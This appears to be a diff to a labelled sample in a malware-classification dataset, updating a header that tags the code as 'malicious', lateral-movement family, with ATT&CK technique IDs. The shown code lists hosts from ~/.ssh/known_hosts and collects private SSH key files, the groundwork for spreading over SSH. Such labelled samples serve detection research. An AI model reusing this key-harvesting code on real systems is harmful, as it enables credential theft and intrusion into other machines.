@@ -1,4 +1,4 @@
-# label: malicious family=lateral techniques=T1021.004,T1552.004,T1105 lines=3-4,7-8
+# label: malicious family=lateral techniques=T1018,T1021.004,T1059.004,T1105,T1552.004 lines=3-4,7-8
 import os, re, subprocess
 hosts = set(re.findall(r"^(\S+)", open(os.path.expanduser("~/.ssh/known_hosts")).read(), re.M))
 keys = [os.path.expanduser("~/.ssh/" + k) for k in os.listdir(os.path.expanduser("~/.ssh")) if k.startswith("id_") and not k.endswith(".pub")]
